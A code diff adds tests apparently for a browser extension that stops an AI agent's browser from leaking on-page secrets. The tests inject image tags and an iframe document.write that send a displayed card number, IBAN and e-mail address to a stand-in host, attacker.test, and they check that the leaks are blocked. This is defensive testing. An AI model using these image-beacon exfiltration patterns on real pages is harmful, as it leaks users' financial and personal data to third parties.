@@ -395,6 +395,66 @@ test.describe('the taint on a worker of an unnamed site, reading open, no MAIN-w
   });
 });
 
+/**
+ * Values shown with spaces or an `@` (a card number in groups, an IBAN, an e-mail address) travel in a URL
+ * percent-encoded — a browser writes a space in a path as %20 by itself — and the floor must know them in
+ * that form too (until 2026-12-01 it did not: its pieces were the short groups). Also from an about:blank
+ * frame's document.write, which the MAIN-world hooks do not see.
+ */
+test.describe('shown values with spaces or an @, percent-encoded in a URL', () => {
+  const VALUES = { card: '4111 1111 1111 1111', iban: 'DE89 3704 0044 0532 0130 00', email: 'john.doe@gmail.com' };
+  /** Which values reached attacker.test; `plain` waits for a request without them first (the hooks of the full build hold that one for the user). */
+  const leak = async (browser: AgentBrowser, id: string, plain: boolean): Promise<string[]> => {
+    server.setPage(`/show/${id}`, `<!doctype html><p>Card: ${VALUES.card}</p><p>IBAN: ${VALUES.iban}</p><p>Contact: ${VALUES.email}</p>`);
+    const page = await browser.context.newPage();
+    await page.goto(`${server.origin(HOME)}/show/${id}`);
+    if (browser.extensionId !== null) {
+      const deadline = Date.now() + 15_000;
+      const recorded = async () => (await browser.floorRules()).some((r) => (r as { condition: { urlFilter?: string } }).condition.urlFilter === '4111111111111111');
+      while (!(await recorded())) {
+        if (Date.now() > deadline) throw new Error('the floor never received the shown values');
+        await sleep(100);
+      }
+    }
+    const attacker = server.origin(ATTACKER);
+    await page.evaluate(
+      ({ attacker, id, values }) => {
+        document.body.insertAdjacentHTML('beforeend', `<img src="${attacker}/${id}/card/${values.card}.png"><img src="${attacker}/${id}/iban/${values.iban}.png"><img src="${attacker}/${id}/email/${encodeURIComponent(values.email)}.png">`);
+        const frame = document.body.appendChild(document.createElement('iframe'));
+        frame.contentDocument!.write(`<img src="${attacker}/${id}/frame/${values.card}.png">`);
+        document.body.insertAdjacentHTML('beforeend', `<img src="${attacker}/${id}/plain/hello.png">`);
+      },
+      { attacker, id, values: VALUES },
+    );
+    if (plain) await server.waitFor(`/${id}/plain/`, ATTACKER, 2 * QUIET_MS);
+    await sleep(QUIET_MS);
+    await page.close();
+    return ['card', 'iban', 'email', 'frame'].filter((what) => server.hits(`/${id}/${what}/`, ATTACKER).length > 0);
+  };
+
+  for (const variant of ['nohooks', 'full'] as const) {
+    test(`${variant} build: none of them reaches attacker.test${variant === 'nohooks' ? '; a request without them does' : ''}`, async () => {
+      test.setTimeout(90_000);
+      const browser = await launch(variant);
+      try {
+        await browser.setPolicy(READ_ONLY);
+        expect(await leak(browser, `spaced-${variant}-${++caseNumber}`, variant === 'nohooks')).toEqual([]);
+      } finally {
+        await browser.close();
+      }
+    });
+  }
+
+  test('negative control: without the extension every one arrives', async () => {
+    const browser = await launch(null);
+    try {
+      expect(await leak(browser, `spaced-control-${++caseNumber}`, true)).toEqual(['card', 'iban', 'email', 'frame']);
+    } finally {
+      await browser.close();
+    }
+  });
+});
+
 test.describe('the taint across a worker restart, no MAIN-world hooks', () => {
   test('after the worker restarts, the floor still refuses the secret the page showed', async () => {
     test.setTimeout(90_000);
